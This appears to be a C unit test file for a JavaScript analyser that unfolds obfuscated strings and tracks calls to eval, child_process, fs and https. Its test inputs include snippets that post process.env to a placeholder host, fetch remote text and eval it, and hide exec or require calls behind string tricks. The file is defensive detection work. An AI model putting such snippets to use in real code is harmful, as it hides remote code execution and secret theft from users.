/* JavaScript whose values are followed: what is hidden is folded, what comes from somewhere is
 * seen where it goes, and no source takes long. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "code/javascript.h"
#include "../code_events.h"

enum { TEXT_MAX = 64 << 10, LARGE = 128 << 10 };

/* Calls of eval and of modules, without those that only put texts together. */
static void on_event(void *context, const struct code_event *event)
{
	static const char *const told[] = {
		"eval", "child_process.", "fs.", "https.", "sink", NULL
	};

	for (size_t i = 0; event->kind == CODE_CALL && told[i]; i++)
		if (span_starts(event->name, told[i]))
			print_event(context, event);
}

static void read_source(struct span source, struct buf *seen)
{
	struct arena arena;
	const struct code_sink sink = { .event = on_event, .context = seen, .mark = mark_event };

	arena_init(&arena, MiB(64), NULL, NULL);
	buf_init(seen, TEXT_MAX);
	(void)code_javascript(source, 0, 1, code_scopes_new(&arena), &sink);
	arena_free(&arena);
}

static void expect(const char *source, const char *expected)
{
	struct buf seen;

	read_source(span_str(source), &seen);
	assert_string_equal(buf_text(&seen), expected);
	buf_free(&seen);
}

/* What eval() is called with. */
static void expect_text(const char *expression, const char *expected)
{
	struct buf source, wanted, seen;
	const char *marks;

	buf_init(&source, TEXT_MAX);
	buf_init(&wanted, TEXT_MAX);
	buf_printf(&source, "eval(%s)", expression);
	buf_printf(&wanted, "1 call eval(%s)", expected);
	read_source(buf_view(&source), &seen);
	marks = strstr(buf_text(&seen), " <- ");
	assert_true(seen.n > 0);
	seen.n = marks ? (size_t)(marks - buf_text(&seen)) : seen.n - 1;
	seen.p[seen.n] = '\0';
	assert_string_equal(buf_text(&seen), buf_text(&wanted));
	buf_free(&source);
	buf_free(&wanted);
	buf_free(&seen);
}

static void escapes_and_joins(void **state)
{
	(void)state;
	expect_text("'\\x65\\u0076\\u{61}\\154\\\n!' + `${'a'}b`", "'eval!ab'");
	expect_text("'e\\va\\l\\\"' .concat('x', 1)", "'e\\x0ba"
						      "l\"x'~");
	expect_text("'\\ud83d\\ude00'", "'\xf0\x9f\x98\x80'");
	expect_text("['a', 'b'].concat(['c']).reverse().join('')", "'cba'");
	expect_text("'dcba'.split('').reverse().join('')", "'abcd'");
	expect_text("[..."
		    "'ab'].join('')",
		    "''~");
	expect_text("'a-b-c'.split('-').join('') + 'XY'.toLowerCase()", "'abcxy'");
	expect_text("'xaxbx'.replace(/x/g, '') + 'q.r'.replace('.', '')", "'abqr'");
	expect_text("'hello'.slice(1, -1) + 'hello'.substring(4, 3) + 'hello'.substr(-2, 1)",
		    "'elll"
		    "l'");
	expect_text("'ab'.charAt(1) + 'ab'[0] + 'ab'.at(-1) + 'z'.repeat(3)", "'babzzz'");
}

static void numbers_and_characters(void **state)
{
	(void)state;
	expect_text("String.fromCharCode(0x61, 98, 0o143, 0b1100100, 1e2 + 1)", "'abcde'");
	expect_text("String.fromCharCode.apply(null, [97, 98])", "'ab'");
	expect_text("[104, 105].map(c => String.fromCharCode(c)).join('')", "'hi'");
	expect_text("[5, 4].map(function (c) { return String.fromCharCode(c ^ 0x61) }).join('')",
		    "'de'");
	expect_text("String.fromCharCode(parseInt('61', 16), parseInt('0x62'), +'99', 10 * 10)",
		    "'abcd'");
	expect_text("(27).toString(36) + (![] + [])[+!+[]] + (!![] + [])[+[]]", "'rat'");
	expect_text("['a', 'b', 'c'][0x102 - 0x100] + ['x'][-1 + 1]", "'cx'");
	expect_text("String.fromCharCode(1 << 6 | 1, ~-67, 194 >> 1, 5 % 3 + 95)", "'ABaa'");
}

static void decoders(void **state)
{
	(void)state;
	expect_text("atob('YWJj')", "'abc'");
	expect_text("Buffer.from('YWJj', 'base64').toString('utf8')", "'abc'");
	expect_text("Buffer.from('616263', 'hex') + ''", "'abc'");
	expect_text("Buffer.from([97, 98]).toString()", "'ab'");
	expect_text("new TextDecoder().decode(new Uint8Array([97, 98]))", "'ab'");
	expect_text("decodeURIComponent('%61%62') + unescape('%63')", "'abc'");
	expect_text(
		"require('zlib').inflateSync(Buffer.from('eJxLTEoGAAJNASc=', 'base64')).toString()",
		"'abc'");
	expect_text("Buffer.from(x, 'base64').toString()", "Buffer.from().toString()");
}

static void names_that_hide(void **state)
{
	(void)state;
	expect("(0, eval)('a'); globalThis['ev' + 'al']('b'); const e = eval; e('c'); "
	       "window.eval.call(null, 'd')",
	       "1 call eval('a')\n1 call eval('b')\n1 call eval('c')\n1 call eval('d')\n");
	expect("const c = require('child_' + 'process'); c['ex\\x65c']('true'); "
	       "process.mainModule.require('child_process').exec('1'); "
	       "module.constructor._load('fs').readFileSync('2')",
	       "1 call child_process.exec('true')\n1 call child_process.exec('1')\n"
	       "1 call fs.readFileSync('2')\n");
	expect("const r = require('module').createRequire(import.meta.url); r('fs').a(); "
	       "(await import('fs')).b(); new Function('return process')().mainModule.require('fs')"
	       ".c(); [].constructor.constructor('return this')().process.mainModule"
	       ".require('fs').d()",
	       "1 call fs.a()\n1 call fs.b()\n1 call fs.c()\n1 call fs.d()\n");
	expect("const { exec: run } = require('child_process'), f = "
	       "require('fs').readFile.bind(1);\n"
	       "run('x'); f('y'); const o = { a: { b: run } }; o.a.b('z'); "
	       "eval('require')('fs').e()",
	       "2 call child_process.exec('x')\n2 call fs.readFile('y')\n"
	       "2 call child_process.exec('z')\n2 call eval('require')\n2 call fs.e()\n");
	expect("const t = ['exec', 'true'], g = i => t[i - 0x10]; "
	       "require('child_process')[g(0x10)](g(0x11)); require('child_process')[q]('s')",
	       "1 call child_process.exec('true')\n1 call child_process.?('s')\n");
	expect("const fs_1 = __importStar(require('fs')); (0, fs_1.readFileSync)('a'); "
	       "require('util').promisify(require('fs').readFile)('b')",
	       "1 call fs.readFileSync('a')\n1 call fs.readFile('b')\n");
}

static void values_are_followed(void **state)
{
	(void)state;
	expect("const https = require('https'); const q = https.request('u'); "
	       "q.write(JSON.stringify({ a: process.env }));",
	       "1 call https.request('u')\n1 call https.request().write({a=process.env}) <- s\n");
	expect("fetch('u').then(r => r.text()).then(t => eval(t))", "1 call eval(?) <- f\n");
	expect("(async () => { const t = await (await fetch('u')).text(); eval(t) })()",
	       "1 call eval(fetch().text()) <- f\n");
	expect("require('https').get('u', r => { let d = ''; r.on('data', c => d += c);\n"
	       "r.on('end', () => eval(d)) })",
	       "1 call https.get('u')~\n2 call eval(''~) <- f\n1 call https.get('u', function )\n");
	expect("new Promise((ok) => { fetch('u').then(m => ok(m)) }).then(v => eval(v))",
	       "1 call eval(?) <- f\n");
	expect("const a = []; a.push(process.env.X); const o = {}; o.k = a; "
	       "require('https').request(o)",
	       "1 call https.request({}) <- s\n");
}

static void functions_are_followed(void **state)
{
	(void)state;
	expect("function get() { return process.env }\nfunction send(d) { sink(d) }\n"
	       "const https = require('https');\n"
	       "const post = d => https.request('u', d); post(get())",
	       "4 function call https.request('u', ?)\n4 call https.request('u', process.env) <- "
	       "s\n");
	expect("main(); function main() { run(make()) }\n"
	       "function run(c) { require('child_process').exec(c) }\n"
	       "function make() { return ['tr', 'ue'].join('') }",
	       "2 function call child_process.exec(?)\n2 call child_process.exec('true')\n");
	expect("class A { constructor(h) { this.h = h } go(c) { require('child_process').exec(c) } "
	       "}\n"
	       "new A('x').go('true')",
	       "1 function call child_process.exec(?)\n1 call child_process.exec('true')\n");
	expect("function d(s) { return s.split('').map(c => String.fromCharCode(c.charCodeAt(0) - "
	       "1))"
	       ".join('') }\neval(d('usvf'))",
	       "2 call eval('true')\n");
}

/* Callbacks of what is called at once run at once, others when they are called. */
static void when_it_runs(void **state)
{
	(void)state;
	expect("setTimeout(() => eval(1)); app.get('/', () => eval(2)); (function () { eval(3) "
	       "})();"
	       " module.exports = () => eval(4); ({ 12: (e) => { eval(5) } })",
	       "1 call eval(1)\n1 function call eval(2)\n1 call eval(3)\n1 function call eval(4)\n"
	       "1 call eval(5)\n");
}

static void hostile_sources(void **state)
{
	static const char *const pieces[] = {
		"f(",
		"f(x=>",
		"f(()=>{",
		"(function(a){",
		"a=b=>",
		"x.then(y=>",
		"eval('eval(",
		"function f(a){f(a);",
		"g();",
		"a+=b;",
		"a.push(a);",
		"[a,a].map(a=>",
		"'a'.repeat(9)+",
		"new Function('return ",
		"String.fromCharCode(",
		"a['b'+",
		"a=[a,a];",
		"function f(a){return f}f()(f);",
		"const g=x=>h(x),h=x=>eval(x);g(fetch(1));",
		"1<<",
		"!![]+",
		"x=x.concat(x);",
		"a=a+a;",
		"'x'.split('').map(a=>a+a).join('')+",
		"class A{constructor(a){new A(a)}}new A(fetch(1));",
	};

	(void)state;
	for (size_t i = 0; i < sizeof(pieces) / sizeof(*pieces); i++) {
		struct buf seen, source;

		buf_init(&source, LARGE);
		buf_str(&source, "let a='a',b=fetch(1),g;");
		while (!source.over)
			buf_str(&source, pieces[i]);
		read_source(buf_view(&source), &seen);
		buf_free(&seen);
		buf_free(&source);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(escapes_and_joins),
		cmocka_unit_test(numbers_and_characters),
		cmocka_unit_test(decoders),
		cmocka_unit_test(names_that_hide),
		cmocka_unit_test(values_are_followed),
		cmocka_unit_test(functions_are_followed),
		cmocka_unit_test(when_it_runs),
		cmocka_unit_test(hostile_sources),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
